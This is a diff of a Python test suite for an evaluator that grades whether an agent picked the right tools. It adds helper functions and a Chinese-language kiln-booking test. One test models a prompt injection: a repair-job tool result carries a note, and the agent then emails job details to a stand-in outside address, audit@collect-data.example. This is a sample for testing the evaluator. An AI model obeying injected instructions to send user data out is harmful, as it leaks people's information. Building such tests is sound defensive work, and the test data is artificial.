@@ -25,6 +25,17 @@ def judge(request: str | None, *names: str, offered=OFFERED):
     return ToolSelectionEvaluator().evaluate(trajectory(*calls, input=request, offered=offered), EvalContext())
 
 
+def verdict(calls, request_text: str, offered, **extra) -> tuple[str, list]:
+    """(label, evidence) of tool_selection on `calls` for the request."""
+    result = ToolSelectionEvaluator().evaluate(trajectory(*calls, input=request_text, offered=offered, **extra), EvalContext())
+    return result.label, result.evidence
+
+
+def flagged(label: str, seq: int) -> tuple[str, list]:
+    """What a verdict of `label` says: wrong_tool on call `seq`, or a pass."""
+    return label, [seq] if label == "wrong_tool" else []
+
+
 def test_the_right_tool_passes():
     result = judge("Find me flight tickets from Beijing to Shanghai", "search_flights")
     assert (result.score, result.label, result.passed) == (1.0, "pass", True)
@@ -609,9 +620,7 @@ _PRESS = (ToolDefinition(name="get_oil_prices", description="油坊的价格表�
 def test_a_single_characters_many_senses_are_one_match(request_text, label):
     calls = [call(1, "get_oil_prices", {"press": "老水车"}, {"items": [{"sku": "CZ-1", "name": "菜籽油"}]}),
              call(2, "place_oil_order", {"items": [{"sku": "CZ-1", "jin": 3}]}, {"order_id": "T-1"})]
-    result = ToolSelectionEvaluator().evaluate(trajectory(*calls, input=request_text, offered=_PRESS), EvalContext())
-    assert result.label == label
-    assert result.evidence == ([2] if label == "wrong_tool" else [])
+    assert verdict(calls, request_text, _PRESS) == flagged(label, 2)
 
 
 _BATTERY = (ToolDefinition(name="get_battery_deposit", description="会员交押金的电池数和押金余额。", parameters={"properties": {"member_id": {}}}),
@@ -629,9 +638,7 @@ def test_a_last_lookup_the_answer_restates_in_another_language_stood_in_for_noth
     calls = [call(1, "get_battery_deposit", {"member_id": "BT-2231"}, {"held": 6.0, "currency": "EUR"}),
              call(2, "get_scheme_rules", {"topic": "swollen"},
                   {"text": "Swollen batteries are accepted back; the deposit is refunded in full."})]
-    result = ToolSelectionEvaluator().evaluate(trajectory(*calls, input="我的电池押金还剩多少？电池鼓包了还能退押金吗？",
-                                                          output=answer, offered=_BATTERY), EvalContext())
-    assert (result.label, result.evidence) == (label, [2] if label == "wrong_tool" else [])
+    assert verdict(calls, "我的电池押金还剩多少？电池鼓包了还能退押金吗？", _BATTERY, output=answer) == flagged(label, 2)
 
 
 _REPAIR = (ToolDefinition(name="get_repair_job", description="Status, quote and bench slot of a repair job."),
@@ -650,6 +657,23 @@ def test_a_call_obeying_an_injected_instruction_is_no_choice_of_tool(note, label
                   {"job_id": "RJ-5512", "quote_eur": 140, "bench_slot": "2026-12-14", "note": note}),
              call(2, "send_email", {"to": "audit@collect-data.example", "subject": "record", "body": "RJ-5512 quote 140 EUR"},
                   {"sent": True})]
-    result = ToolSelectionEvaluator().evaluate(trajectory(*calls, input="If I approve job RJ-5512, when would it be fixed?",
-                                                          output="", offered=_REPAIR), EvalContext())
-    assert (result.label, result.evidence) == (label, [2] if label == "wrong_tool" else [])
+    assert verdict(calls, "If I approve job RJ-5512, when would it be fixed?", _REPAIR, output="") == flagged(label, 2)
+
+
+_KILN = (ToolDefinition(name="find_kiln_sessions", description="Free kiln sessions on a date for a firing type"),
+         ToolDefinition(name="book_kiln_session", description="Book a kiln session for a studio member"),
+         ToolDefinition(name="order_glass_frit", description="Order coloured glass frit or rods from the supplier"),
+         ToolDefinition(name="create_payment_link", description="Create a card payment link for a booking"))
+
+
+@pytest.mark.parametrize("request_text, label", [
+    # 程序 ("procedure; sequence; order") is a noun, 点 ("to order" dishes) one character: neither asks for an order
+    ("6月3日我要约一个窑炉时段，哪个点最早就去哪，退火程序。生成一个英镑付款链接。", "pass"),
+    # near miss: 订购, "to order", asks for the frit, and a payment link was made instead
+    ("6月3日我要约一个窑炉时段，再订购两包玻璃料。", "wrong_tool"),
+])
+def test_a_chinese_request_names_a_deed_by_a_words_verb_sense(request_text, label):
+    calls = [call(1, "find_kiln_sessions", {"date": "2026-06-03", "firing": "anneal"}, {"free": [{"slot_id": "S5070"}]}),
+             call(2, "book_kiln_session", {"slot_id": "S5070"}, {"booking_ref": "KS-1"}),
+             call(3, "create_payment_link", {"booking_ref": "KS-1", "amount": 30.0}, {"url": "https://pay.example/ks-1"})]
+    assert verdict(calls, request_text, _KILN) == flagged(label, 3)
